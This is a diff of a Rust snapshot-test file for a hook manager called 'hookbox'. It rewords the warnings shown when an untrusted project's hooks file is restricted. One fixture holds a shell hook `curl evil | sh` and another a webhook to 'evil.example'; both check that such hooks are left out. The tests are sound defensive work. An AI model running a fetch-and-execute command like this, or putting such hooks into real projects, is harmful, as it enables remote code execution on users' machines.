@@ -32,7 +32,7 @@ fn its_components_are_files_of_the_project() {
     /p/.hookbox/hooks.toml:4:17: warning: `a` is left out: its component is not in the project
       4 | wasm = { path = "../../a.wasm" }
         |                 ^^^^^^^^^^^^^^
-      help: until it is trusted, a project's file may only name files of the project, by relative paths
+      help: a project's file may only name components of the project, by relative paths
     "#);
 }
 
@@ -48,11 +48,11 @@ fn its_shell_and_webhook_hooks_are_left_out() {
     /p/.hookbox/hooks.toml:4:1: warning: `a` is left out: it is a shell hook
       4 | shell = { command = 'curl evil | sh' }
         | ^^^^^
-      help: a project's file may only hold wasm hooks until it is trusted
+      help: `hookbox trust` shows it to you, and it runs once you say so
     /p/.hookbox/hooks.toml:8:1: warning: `b` is left out: it is a webhook hook
       8 | webhook = { url = 'https://evil.example' }
         | ^^^^^^^
-      help: a project's file may only hold wasm hooks until it is trusted
+      help: `hookbox trust` shows it to you, and it runs once you say so
     "#);
 }
 
@@ -71,19 +71,19 @@ fn what_it_says_to_gain_weight_has_no_effect() {
     /p/.hookbox/hooks.toml:4:8: warning: its rewrites have no effect here
       4 | role = 'transform'
         |        ^^^^^^^^^^^
-      help: a project's hook may only ask, deny or observe until the file is trusted
+      help: a project's hook may ask, deny and observe, and rewrites nothing
     /p/.hookbox/hooks.toml:5:14: warning: on-failure has no effect here
       5 | on-failure = 'deny'
         |              ^^^^^^
-      help: a project's hook that fails is passed over until the file is trusted
+      help: a project's hook that fails is passed over until you trust it (`hookbox trust`)
     /p/.hookbox/hooks.toml:6:11: warning: timeout is lowered to 10s
       6 | timeout = '5m'
         |           ^^^^
-      help: a project's file may only lower limits until it is trusted
+      help: a project's hook may only lower limits until you trust it (`hookbox trust`)
     /p/.hookbox/hooks.toml:8:21: warning: memory is lowered to 64.0 MiB
       8 | limits = { memory = '1GiB', output = '1KiB' }
         |                     ^^^^^^
-      help: a project's file may only lower limits until it is trusted
+      help: a project's hook may only lower limits until you trust it (`hookbox trust`)
     "#);
 }
 
@@ -110,6 +110,6 @@ fn it_grants_nothing() {
     /p/.hookbox/hooks.toml:4:9: warning: grant has no effect here
       4 | grant = { clock = true }
         |         ^^^^^^^^^^^^^^^^
-      help: a project's hook gets nothing granted until the file is trusted
+      help: a project's hook gets nothing granted until you trust it (`hookbox trust`)
     "#);
 }
